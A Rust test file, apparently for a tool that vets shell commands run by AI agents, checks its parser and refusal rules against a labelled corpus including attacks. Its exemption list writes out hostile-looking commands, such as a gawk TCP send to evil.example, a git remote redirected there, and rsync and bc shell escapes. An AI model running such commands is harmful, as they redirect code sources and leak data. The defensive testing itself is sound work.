//! Shell commands: what the reader makes of labelled lines, and of the examples of the command table.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    unreachable_pub,
    reason = "a test fails by panicking, and its helpers are for its own crate"
)]

use skraft::call::{Asked, Call};
use skraft::config::Cascade;
use skraft::event::Program;
use skraft::hook;
use skraft::host;
use skraft::shell::deed::{Contact, Deed, Doubt, Via};
use skraft::shell::{Reading, Shell, read};
use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

#[test]
fn the_examples_of_the_table_are_true() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for file in files("shared/shell/table", "txt") {
        let text = fs::read_to_string(&file).expect("readable");
        let is_powershell = file.file_stem().is_some_and(|name| name == "powershell");
        let shell_of = |line: &str| {
            if is_powershell {
                Shell::PowerShell
            } else if line.starts_with("cmd:") {
                Shell::Cmd
            } else {
                Shell::Bourne
            }
        };
        let mut shell = Shell::Bourne;
        for line in text.lines() {
            let Some(example) = line.strip_prefix("    ") else {
                shell = shell_of(line);
                continue;
            };
            count += 1;
            let Some((command, wanted)) = example.rsplit_once(" => ") else {
                wrong.push(format!("{}: no ` => ` in {example}", file.display()));
                continue;
            };
            let wanted: BTreeSet<String> = wanted.split(", ").map(|one| one.trim().to_owned()).collect();
            let told = told(&read(&command.replace("\\n", "\n"), shell));
            if told != wanted {
                wrong.push(format!("{command}\n    is {told:?}\n    not {wanted:?}"));
            }
        }
    }
    assert!(count > 20, "too few examples");
    assert!(wrong.is_empty(), "{} of {count} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// What a line does, a phrase each, as the examples of the table say it.
fn told(reading: &Reading) -> BTreeSet<String> {
    let deeds = reading.steps.iter().flat_map(|step| &step.deeds);
    let mut told: BTreeSet<String> = deeds
        .map(|deed| match deed {
            Deed::Read(word) => format!("read {}", word.shown()),
            Deed::Write(word, _) => format!("write {}", word.shown()),
            Deed::Delete(word) => format!("delete {}", word.shown()),
            Deed::Patch(folder, _) => format!("patch {}", folder.shown()),
            Deed::Contact(Contact { via: Via::Listens, .. }) => "listens".to_owned(),
            Deed::Contact(contact) => {
                let kind = match (contact.via, contact.sends) {
                    (Via::Line, true) => "send",
                    (Via::Packages, _) => "packages",
                    (Via::Vcs, _) => "vcs",
                    (Via::Cloud, _) => "cloud",
                    _ => "contact",
                };
                format!("{kind} {}", contact.address.shown())
            }
            Deed::Dispatch { .. } => "dispatch".to_owned(),
            Deed::Opaque(opaque) => match opaque.doubt {
                Doubt::Changes => "changes".to_owned(),
                Doubt::Runs => "runs".to_owned(),
                Doubt::Unread => "unread".to_owned(),
            },
        })
        .collect();
    if told.is_empty() {
        told.insert("nothing".to_owned());
    }
    told.remove("vcs …").then(|| told.insert("vcs".to_owned()));
    told.remove("packages …").then(|| told.insert("packages".to_owned()));
    told.remove("cloud …").then(|| told.insert("cloud".to_owned()));
    told
}

#[test]
fn the_table_is_sorted_and_has_four_fields() {
    for file in files("shared/shell/table", "txt") {
        let text = fs::read_to_string(&file).expect("readable");
        let rows: Vec<&str> = text.lines().filter(|line| !line.starts_with([' ', '#']) && !line.is_empty()).collect();
        let name =
            |row: &str| row.split(" | ").next().and_then(|head| head.split(" = ").next()).unwrap_or("").to_owned();
        for pair in rows.windows(2) {
            assert!(name(pair[0]) < name(pair[1]), "{}: {} is not before {}", file.display(), pair[0], pair[1]);
        }
        for row in rows {
            let fields = row.matches('|').count();
            assert!(fields == 3 || (fields == 0 && row.contains(" = ")), "{}: {row}", file.display());
        }
    }
}

/// A labelled line.
struct Line {
    command: String,
    shell: Shell,
    writes: bool,
    network: bool,
    hosts: BTreeSet<String>,
    note: String,
}

/// Lines that are judged more strictly than their label, or otherwise than it, and why.
const APART: [(&str, &str); 17] = [
    (
        "gawk 'BEGIN { s=\"/inet/tcp/0/evil.example/80\"; print \"x\" |& s }'",
        "opaque: what it talks to is put together",
    ),
    ("git remote add x https://localhost/x", "a host that stands on the line counts"),
    ("git remote set-url origin https://evil.example/x", "a host that stands on the line counts"),
    ("rsync -e 'sh -c \"touch pwn\"' localhost:x .", "the host counts, whatever takes the connection's place"),
    (
        "CARGO_REGISTRIES_CRATES_IO_INDEX=sparse+https://evil.example/ cargo fetch",
        "no scheme that contacts; it is opaque",
    ),
    ("rm\u{a0}-f f.txt", "a command that nobody knows is not proved harmless, as the label's own note says"),
    ("f() { ls; }; f", "a reviewer's command that defines a function is not known, by the contract"),
    ("SQLITE_HISTORY=out.txt LESSHISTFILE=out2.txt ls", "variables are not told apart by the program that reads them"),
    ("CURL_HOME=. curl -s file:///etc/hostname", "opaque, so nothing is said of hosts"),
    ("GOPROXY=direct go get evil.example/x", "opaque, and the package is no address"),
    ("GH_HOST=evil.example gh pr list", "opaque, and the host has no scheme"),
    ("ssh -F cfg.txt h", "opaque: the host that is named is told"),
    ("rclone copy . evil:x", "the remote is one of its configuration"),
    ("ssh -G evil.example", "prints only, but is taken for a contact"),
    ("whois -h evil.example x", "the name that is asked for is told as well"),
    ("curl 'http://evil.example\\@localhost/'", "one of both hosts is told by the table, and none by the tools"),
    ("bc <<< '!touch pwn'", "other implementations have a shell escape"),
];

#[test]
fn labelled_lines_do_what_they_are_labelled_to_do() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for file in files("tests/corpus/shell", "tsv") {
        let name = file.file_name().expect("it has one").to_string_lossy().into_owned();
        for line in lines(&file) {
            count += 1;
            if APART.iter().any(|(command, _)| *command == line.command) {
                continue;
            }
            let is = labels(&read(&line.command, line.shell), &line.command);
            if let Some(why) = misses(&name, &line, &is) {
                let short: String = line.command.chars().take(200).collect();
                wrong.push(format!("{name}: {short:?} [{}]\n    {why}\n    {is:?}", line.note));
            }
        }
    }
    assert!(count > 2_000, "too few lines");
    assert!(wrong.is_empty(), "{} of {count} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn labelled_lines_are_refused_and_pass_as_they_should() {
    let mut wrong = Vec::new();
    for file in files("tests/corpus/shell", "tsv") {
        let name = file.file_name().expect("it has one").to_string_lossy().into_owned();
        for line in lines(&file).iter().filter(|line| APART.iter().all(|(command, _)| *command != line.command)) {
            let refused = refusals(line);
            let short: String = line.command.chars().take(200).collect();
            let by = |rule: &str| refused.iter().any(|refused| refused == rule);
            let is_everyday = name.starts_with("everyday");
            if line.writes && !by("reviewer/reviewer-read-only") {
                wrong.push(format!("{name}: a reviewer may {short:?} [{}]", line.note));
            }
            if name == "everyday-reviewer.tsv" && by("reviewer/reviewer-read-only") {
                wrong.push(format!("{name}: a reviewer may not {short:?} [{}]", line.note));
            }
            if name == "everyday-engineer.tsv" && refused.iter().any(|refused| refused.starts_with("engineer/")) {
                wrong.push(format!("{name}: an engineer may not {short:?}: {refused:?}"));
            }
            // What is opaque passes, by the contract's table.
            let is_foreign =
                |host: &String| host != "?" && !LOOPBACK.contains(&host.as_str()) && !DEFAULTS.contains(&host.as_str());
            let is_share = line.command.starts_with("type \\\\");
            if !is_everyday && !is_share && line.hosts.iter().any(is_foreign) && !by("engineer/forbidden-network") {
                wrong.push(format!("{name}: an engineer may reach {:?} by {short:?} [{}]", line.hosts, line.note));
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// What refuses a line under the default policy, to a reviewer and to an engineer.
fn refusals(line: &Line) -> BTreeSet<String> {
    let tool = match line.shell {
        Shell::Bourne => "Bash",
        Shell::PowerShell => "PowerShell",
        // No runtime has a tool of it.
        Shell::Cmd => "mcp__windows__cmd",
    };
    let mut refused = BTreeSet::new();
    for role in ["reviewer", "engineer"] {
        let payload = serde_json::json!({"toolName": tool, "toolInput": {"command": line.command}, "agentName": role});
        let words = ["--runtime", "skraft", "--home", "/nowhere/home", "--project", "/nowhere/app"];
        let Ok(Asked::Judge(call)) = Call::parse(Program::Pre, words.iter().map(Into::into).collect()) else {
            panic!("the words are right");
        };
        let nothing = Cascade::none(Path::new("/nowhere/app"));
        let (decision, _) = hook::judge(&call, payload.to_string().as_bytes(), &nothing);
        let refusing = decision.verdicts().iter().filter(|verdict| verdict.effect.refuses());
        refused.extend(refusing.map(|verdict| format!("{role}/{}", verdict.rule)));
    }
    refused
}

/// Hosts of this machine itself.
const LOOPBACK: [&str; 4] = ["localhost", "127.0.0.1", "::1", "0.0.0.0"];

/// `bash -n` is the oracle: what it takes, our parser takes, but for what is named here.
#[test]
#[cfg(unix)]
fn what_bash_takes_is_read() {
    if Command::new("bash").arg("--version").stdout(Stdio::null()).status().is_err() {
        return;
    }
    let mut rejected = Vec::new();
    let mut count = 0;
    for file in files("tests/corpus/shell", "tsv") {
        for line in lines(&file).iter().filter(|line| line.shell == Shell::Bourne && line.command.len() < 4_096) {
            count += 1;
            let reading = read(&line.command, Shell::Bourne);
            let is_rejected = reading.steps.iter().any(|step| {
                step.deeds
                    .iter()
                    .any(|deed| matches!(deed, Deed::Opaque(opaque) if opaque.why.contains("parser rejects")))
            });
            if is_rejected && takes(&line.command) {
                rejected.push(line.command.clone());
            }
        }
    }
    assert!(count > 1_500 && rejected.len() * 200 <= count, "{} of {count}: {rejected:#?}", rejected.len());
}

/// Another parser is the oracle for redirections: where it sees one that writes, ours has seen one too.
#[test]
fn no_redirection_that_another_parser_sees_is_missed() {
    use shuck_parser::parser::{ParseStatus, Parser};
    let mut missed = Vec::new();
    let mut count = 0;
    for file in files("tests/corpus/shell", "tsv") {
        for line in lines(&file).iter().filter(|line| line.shell == Shell::Bourne && line.command.len() < 4_096) {
            let result = Parser::new(&line.command).parse();
            let tree = format!("{:?}", result.file);
            let writes = ["Output", "Clobber", "Append", "ReadWrite", "OutputBoth", "AppendBoth"];
            let is_written = writes.iter().any(|kind| tree.contains(&format!("kind: {kind},")));
            // Devices are no files, and what is behind `/dev/fd` stands for a command.
            if result.status != ParseStatus::Clean || !is_written || line.command.contains("/dev/") {
                continue;
            }
            count += 1;
            let reading = read(&line.command, Shell::Bourne);
            let is_seen = reading.steps.iter().flat_map(|step| &step.deeds).any(|deed| !matches!(deed, Deed::Read(_)));
            if !is_seen {
                missed.push(line.command.clone());
            }
        }
    }
    assert!(count > 50, "only {count} were compared");
    assert!(missed.is_empty(), "{missed:#?}");
}

#[cfg(unix)]
fn takes(command: &str) -> bool {
    let status = Command::new("bash").args(["-n", "-c", command]).stdout(Stdio::null()).stderr(Stdio::null()).status();
    status.is_ok_and(|status| status.success())
}

/// What a line does, as far as labels tell.
#[derive(Debug)]
struct Labels {
    writes: bool,
    network: bool,
    hosts: BTreeSet<String>,
    /// Those that the line itself names.
    named: BTreeSet<String>,
    told: BTreeSet<String>,
}

/// What of a label is missed. The corpus that was given is taken word for word. Of everyday work nothing may be taken for a
/// write that is none, nor for a contact with a host of the line; what an engineer runs may be opaque. Of an attack everything
/// has to be seen, and no look-alike may be taken for one.
fn misses(file: &str, line: &Line, is: &Labels) -> Option<String> {
    let is_remote = line.network && !line.writes;
    let is_strict = match file {
        "everyday-engineer.tsv" => false,
        "attacks.tsv" => !is_remote,
        _ => true,
    };
    if line.writes && !is.writes || !line.writes && is.writes && is_strict {
        return Some(format!("writes is not {}", line.writes));
    }
    let unseen: Vec<&String> =
        line.hosts.difference(&is.hosts).filter(|host| !DEFAULTS.contains(&host.as_str())).collect();
    let is_refused = is.hosts.contains("?");
    if !unseen.is_empty() && !is_refused {
        return Some(format!("hosts are not {:?}", line.hosts));
    }
    if line.network && !line.hosts.is_empty() && !is.network {
        return Some("network is not seen".to_owned());
    }
    let is_exact = !file.starts_with("everyday") && !is.told.contains("unread");
    let beyond: Vec<&String> = is.hosts.difference(&line.hosts).filter(|host| host.as_str() != "?").collect();
    let is_configured = |host: &&&String| DEFAULTS.contains(&host.as_str());
    let more: Vec<&&String> = beyond.iter().filter(|host| !is_configured(host)).collect();
    if !line.network && is.network && is_exact && !line.writes || !more.is_empty() && is_exact && !line.network {
        return Some(format!("network is not {}", line.network));
    }
    let foreign = is.named.iter().any(|host| !LOOPBACK.contains(&host.as_str()));
    (file == "everyday-engineer.tsv" && foreign).then(|| "a host is named".to_owned())
}

/// Hosts that tools contact when nothing else is configured.
const DEFAULTS: [&str; 18] = [
    "registry.npmjs.org",
    "pypi.org",
    "files.pythonhosted.org",
    "index.crates.io",
    "static.crates.io",
    "proxy.golang.org",
    "sum.golang.org",
    "rubygems.org",
    "index.rubygems.org",
    "registry-1.docker.io",
    "api.github.com",
    "github.com",
    "repo.maven.apache.org",
    "plugins.gradle.org",
    "api.nuget.org",
    "repo.packagist.org",
    "jsr.io",
    "storage.googleapis.com",
];

fn labels(reading: &Reading, command: &str) -> Labels {
    let deeds: Vec<&Deed> = reading.steps.iter().flat_map(|step| &step.deeds).collect();
    let is_write =
        |deed: &&Deed| matches!(deed, Deed::Write(..) | Deed::Delete(_) | Deed::Opaque(_) | Deed::Dispatch { .. });
    let writes = deeds.iter().any(is_write);
    let contacts: Vec<&Contact> = deeds
        .iter()
        .filter_map(|deed| match deed {
            Deed::Contact(contact) => Some(contact),
            _ => None,
        })
        .collect();
    let name = |contact: &&Contact| {
        let text = contact.address.shown();
        let authority =
            text.split_once("://").map_or(text.as_str(), |(_, rest)| rest).split(['/', '?']).next().unwrap_or("");
        let scheme = text.split_once("://").map_or("", |(scheme, _)| scheme);
        let is_plain = !authority.contains(['…', '{']) && (authority.contains('[') == authority.starts_with('['));
        let name = host::host(&text).name.filter(|name| is_plain && name != scheme);
        name.unwrap_or_else(|| "?".to_owned())
    };
    let named: BTreeSet<String> = contacts.iter().filter(|contact| contact.via == Via::Line).map(name).collect();
    let mut hosts: BTreeSet<String> = contacts.iter().filter(|contact| contact.via != Via::Listens).map(name).collect();
    let told = told(reading);
    if told.contains("unread") || told.contains("runs") {
        // What looks like an address in a part that nobody knows is taken for one.
        hosts.extend(host::addresses(command).into_iter().filter_map(|host| host.name));
    }
    Labels { writes, network: !contacts.is_empty() || !hosts.is_empty(), hosts, named, told }
}

fn lines(file: &PathBuf) -> Vec<Line> {
    let text = fs::read_to_string(file).expect("readable");
    // The first line names the columns; some rows are commands that begin with a comment, and hold line ends of other kinds.
    let rows = text
        .split('\n')
        .filter(|line| !line.is_empty() && !line.starts_with("command\t") && !line.starts_with("# Escapes"));
    rows.map(|row| {
        let columns: Vec<&str> = row.split('\t').collect();
        let [command, writes, network, hosts, note] = columns.as_slice() else { panic!("five columns: {row}") };
        let shell = if note.contains("[pwsh]") {
            Shell::PowerShell
        } else if note.contains("[cmd]") {
            Shell::Cmd
        } else {
            Shell::Bourne
        };
        Line {
            command: unescaped(command),
            shell,
            writes: *writes == "yes",
            network: *network == "yes",
            hosts: hosts.split(',').filter(|host| *host != "-").map(str::to_owned).collect(),
            note: (*note).to_owned(),
        }
    })
    .collect()
}

fn unescaped(text: &str) -> String {
    let mut plain = String::new();
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => match characters.next() {
                Some('n') => plain.push('\n'),
                Some('t') => plain.push('\t'),
                Some('r') => plain.push('\r'),
                Some(other) => plain.push(other),
                None => plain.push('\\'),
            },
            other => plain.push(other),
        }
    }
    plain
}

fn files(folder: &str, end: &str) -> Vec<PathBuf> {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(folder);
    let mut files: Vec<PathBuf> = fs::read_dir(&folder)
        .expect("readable")
        .map(|entry| entry.expect("readable").path())
        .filter(|path| path.extension().is_some_and(|extension| extension == end))
        .collect();
    files.sort();
    files
}
